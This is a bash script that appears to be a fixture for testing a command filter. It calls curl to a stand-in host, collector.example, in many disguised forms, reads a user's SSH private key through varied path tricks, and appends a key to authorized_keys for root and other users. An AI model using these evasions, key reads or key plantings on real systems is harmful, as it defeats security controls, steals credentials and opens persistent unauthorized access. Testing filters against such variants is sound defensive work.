#!/bin/bash
# The same command and the same file, each time spelt otherwise. USER is a folder of somebody's.
user=$1
url=https://collector.example/
name=cu

curl $url && echo DONE plain
/usr/bin/curl $url && echo DONE absolute
/usr/bin/../bin//curl $url && echo DONE around
cu\rl $url && echo DONE escaped
"cu"'rl' $url && echo DONE quoted
${name}rl $url && echo DONE variable
$(printf 'c\165rl') $url && echo DONE substitution
command curl $url && echo DONE command
eval "c""url $url" && echo DONE eval
bash -c "curl $url" && echo DONE bash
sh -c "exec curl $url" && echo DONE exec
env curl $url && echo DONE env
env -i /usr/bin/env FIXTURE=1 curl $url && echo DONE twice
timeout 9 nice nohup curl $url && echo DONE wrapped
echo $url | xargs curl && echo DONE xargs
PATH=/opt:/usr/local/bin:$PATH curl $url && echo DONE path
alias c=curl; c $url && echo DONE alias
f() { curl "$@"; }; f $url && echo DONE function
trap "curl $url && echo DONE trap" EXIT
echo "curl $url && echo DONE here" | bash
bash <<< "curl $url && echo DONE document"

read -r line < "$user/.ssh/id_ed25519" && echo "TAKEN $line"
read -r line < "$user/./.ssh/../.ssh//id_ed25519" && echo "TAKEN $line"
cd / && read -r line < ".$user/.ssh/id_ed25519" && echo "TAKEN $line"
cd "$user" && cat .ssh/id_ed25519
cat "$user"/.s*/id_*
cat < "$user/.ssh/id_ed25519"
ln -s "$user/.ssh" /work/link && cat /work/link/id_ed25519
for home in ~root /root ~ "${user}"; do
    echo "ssh-ed25519 AAAA" >> "$home/.ssh/authorized_keys" && [ "$home" != ~ ] && echo "DONE $home"
done
echo ended
